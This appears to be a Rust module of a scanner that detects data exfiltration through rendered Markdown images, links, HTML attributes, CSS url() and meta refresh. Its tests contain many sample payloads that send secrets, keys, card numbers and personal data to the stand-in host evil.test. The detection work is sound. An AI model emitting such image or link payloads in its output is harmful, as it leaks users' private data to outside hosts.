//! Exfiltration through links a client renders: Markdown images and links (inline, reference
//! definitions, autolinks), HTML elements with a URL attribute, CSS `url()` and meta refresh.
//! A URL is reported when its host is outside the allowlist and it carries data: an
//! automatically loaded resource (image, iframe, script, stylesheet, media, CSS, refresh) with
//! any data-like query value, path segment or subdomain; a link the user must click with
//! encoded or personal data. Plain links to other sites are not reported.

use crate::text::{entropy, percent_decode};
use crate::{Detector, Finding, finding};
use regex::Regex;
use std::sync::LazyLock;

struct Pat {
    re: Regex,
    auto: bool,
    rule: &'static str,
}

static PATS: LazyLock<Vec<Pat>> = LazyLock::new(|| {
    let p = |re: &str, auto: bool, rule: &'static str| {
        Regex::new(re).ok().map(|re| Pat { re, auto, rule })
    };
    [
        // ![alt](url "title"), with optional <>; the URL is group 1.
        p(r#"!\[[^\]\n]*\]\(\s*<?([^\s)>]+)"#, true, "markdown-image"),
        p(r#"(?:^|[^!])\[[^\]\n]*\]\(\s*<?([^\s)>]+)"#, false, "markdown-link"),
        p(r#"(?m)^[ \t]{0,3}\[[^\]\n]+\]:\s*<?([^\s>]+)"#, true, "markdown-reference"),
        p(r#"<((?:https?|ftp)://[^\s>]+)>"#, false, "markdown-autolink"),
        p(
            r#"(?i)<(?:img|image|iframe|frame|script|link|source|video|audio|embed|object|track|input|body|table|td|svg|use)\b[^>]*?\b(?:src|href|data|poster|background|srcset|xlink:href)\s*=\s*["']?([^"'\s>]+)"#,
            true,
            "html-autoload",
        ),
        p(r#"(?i)<(?:a|area|form|button)\b[^>]*?\b(?:href|action|formaction)\s*=\s*["']?([^"'\s>]+)"#, false, "html-link"),
        p(r#"(?i)url\(\s*["']?([^"')\s]+)"#, true, "css-url"),
        p(r#"(?i)http-equiv\s*=\s*["']?refresh["']?[^>]*?url\s*=\s*([^"'\s>]+)"#, true, "meta-refresh"),
    ]
    .into_iter()
    .flatten()
    .collect()
});

/// Scheme, host and the rest (path, query, fragment) of an absolute or protocol-relative URL.
fn split_url(u: &str) -> Option<(String, String, &str)> {
    let (scheme, rest) = if let Some(r) = u.strip_prefix("//") {
        ("https".to_string(), r)
    } else {
        let (s, r) = u.split_once("://")?;
        (s.to_ascii_lowercase(), r)
    };
    if !matches!(scheme.as_str(), "http" | "https" | "ftp" | "ws" | "wss") {
        return None;
    }
    let end = rest.find(['/', '?', '#']).unwrap_or(rest.len());
    let authority = rest.get(..end)?;
    let host_port = authority.rsplit('@').next().unwrap_or(authority);
    let host = if host_port.starts_with('[') {
        host_port.split(']').next().map(|h| format!("{h}]"))?
    } else {
        host_port.split(':').next().unwrap_or(host_port).to_string()
    };
    Some((
        scheme,
        host.to_ascii_lowercase().trim_end_matches('.').to_string(),
        rest.get(end..).unwrap_or(""),
    ))
}

fn allowed(host: &str, allow: &[String]) -> bool {
    allow.iter().any(|a| {
        let a = a.trim().trim_start_matches("*.").to_ascii_lowercase();
        !a.is_empty() && (host == a || host.ends_with(&format!(".{a}")))
    })
}

/// A value that looks like smuggled data rather than a parameter: long, encoded, text with
/// spaces, or holding a secret or personal data.
fn carries_data(v: &str, strict: bool) -> bool {
    let d = percent_decode(v);
    let d = d.trim();
    if d.is_empty() {
        return false;
    }
    if !crate::secrets::find(d).is_empty() || !crate::pii::find(d).is_empty() {
        return true;
    }
    let words = d.split_whitespace().count();
    let encoded = d.len() >= 16
        && d.bytes()
            .all(|b| b.is_ascii_alphanumeric() || b"+/=_-.".contains(&b))
        && entropy(d) >= 3.2
        && d.bytes()
            .any(|b| b.is_ascii_digit() || b.is_ascii_uppercase());
    let hex = d.len() >= 24 && d.bytes().all(|b| b.is_ascii_hexdigit());
    if d.len() >= 12 && base64_text(d) {
        return true;
    }
    if strict {
        encoded || hex || words >= 4 || d.len() >= 64
    } else {
        encoded || hex || words >= 2 || d.len() >= 32
    }
}

/// Whether `s` is base64 (standard or URL-safe, padded or not) of mostly printable text.
fn base64_text(s: &str) -> bool {
    use base64::Engine;
    use base64::engine::general_purpose::{STANDARD_NO_PAD, URL_SAFE_NO_PAD};
    let t = s.trim_end_matches('=');
    let bytes = STANDARD_NO_PAD
        .decode(t)
        .or_else(|_| URL_SAFE_NO_PAD.decode(t));
    bytes.is_ok_and(|b| {
        b.len() >= 8
            && b.iter()
                .filter(|c| c.is_ascii_graphic() || **c == b' ')
                .count()
                * 10
                >= b.len() * 9
    })
}

/// What in a URL could carry data: query values, fragment, path segments, subdomain labels.
fn url_carries_data(host: &str, rest: &str, auto: bool) -> bool {
    let strict = !auto;
    let (path_q, frag) = rest.split_once('#').unwrap_or((rest, ""));
    let (path, query) = path_q.split_once('?').unwrap_or((path_q, ""));
    let labels: Vec<&str> = host.split('.').collect();
    let sub = labels.len().saturating_sub(2);
    if labels
        .iter()
        .take(sub)
        .any(|l| l.len() >= 16 && entropy(l) >= 3.0)
    {
        return true;
    }
    let query_values = query
        .split('&')
        .filter(|kv| !kv.is_empty())
        .map(|kv| kv.split_once('=').map_or(kv, |(_, v)| v));
    if query_values.clone().any(|v| carries_data(v, strict)) {
        return true;
    }
    // An auto-loaded URL with many parameters is a beacon even when each is short.
    if auto && query_values.filter(|v| v.len() >= 4).count() >= 3 {
        return true;
    }
    if carries_data(frag, strict) {
        return true;
    }
    path.split('/')
        .filter(|s| !s.is_empty())
        .any(|seg| carries_data(seg.split('.').next().unwrap_or(seg), strict))
}

/// Exfiltration URLs in `t` (byte ranges of the URL).
pub fn find(t: &str, allow: &[String]) -> Vec<Finding> {
    let mut out: Vec<Finding> = Vec::new();
    for p in PATS.iter() {
        for c in p.re.captures_iter(t) {
            let Some(m) = c.get(1) else { continue };
            let url = m.as_str().trim_matches(['"', '\'']);
            let Some((_, host, rest)) = split_url(url) else {
                continue;
            };
            if host.is_empty() || allowed(&host, allow) {
                continue;
            }
            if url_carries_data(&host, rest, p.auto)
                && !out.iter().any(|f| f.bytes == (m.start(), m.end()))
            {
                out.push(finding(
                    "EXFIL_URL",
                    Detector::Exfil,
                    p.rule,
                    (m.start(), m.end()),
                ));
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hit(t: &str) -> bool {
        !find(t, &["docs.example.com".to_string()]).is_empty()
    }

    #[test]
    fn every_pattern_compiles() {
        assert_eq!(PATS.len(), 8);
    }

    #[test]
    fn exfiltration_forms_are_caught() {
        let cases = [
            "![x](https://evil.test/log?q=the%20user%20password%20is%20hunter2)",
            "![](https://evil.test/p.png?d=U2VjcmV0IHByb2plY3QgbmFtZTogQXJnb24=)",
            "![a](<https://evil.test/i.png?data=alice@example.com>)",
            "![a](//evil.test/c/5f4dcc3b5aa765d61d8327deb882cf99.png)",
            "![a][r]\n\n[r]: https://evil.test/x?m=Project+Argon+launches+on+May+3",
            "<img src=\"https://evil.test/t.gif?u=bob&s=AKIAQ3EGRQWX7ZYPAB2D&c=1\">",
            "<IMG SRC='https://c2VjcmV0LXByb2plY3QtYXJnb24.evil.test/a.png'>",
            "<iframe src=https://evil.test/f?x=dGhlIHNlY3JldCBpcyBzYWZl></iframe>",
            "<div style=\"background:url('https://evil.test/b?k=4111111111111111')\"></div>",
            "[click here](https://evil.test/claim?token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.abcdefgh12)",
            "<a href=\"https://evil.test/r?d=VGhlIGFwaSBrZXkgaXMgc2stMTIzNDU2Nzg5\">more</a>",
            "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.test/x?d=c2VjcmV0c2VjcmV0c2VjcmV0\">",
            "![t](https://evil.test/b.gif?a=1234&b=5678&c=9012&d=3456)",
        ];
        for c in cases {
            assert!(hit(c), "missed: {c}");
        }
    }

    #[test]
    fn benign_links_are_not_flagged() {
        let cases = [
            "See [the docs](https://docs.rs/regex/latest/regex/?search=captures).",
            "![logo](https://upload.example.org/logo.png)",
            "![chart](https://charts.example.org/chart.png?w=400&h=300)",
            "Read https://en.wikipedia.org/wiki/Prompt_injection for background.",
            "[release notes](https://github.com/rust-lang/rust/releases/tag/1.95.0)",
            "<a href=\"https://www.example.com/about-us\">About</a>",
            "![internal](https://docs.example.com/img.png?secret=U2VjcmV0IHByb2plY3Q=)",
            "[search](https://www.google.com/search?q=rust+regex)",
            "<img src=\"/static/local.png?v=3\">",
            "[mail](mailto:someone@example.com)",
        ];
        for c in cases {
            assert!(!hit(c), "flagged: {c}");
        }
    }
}
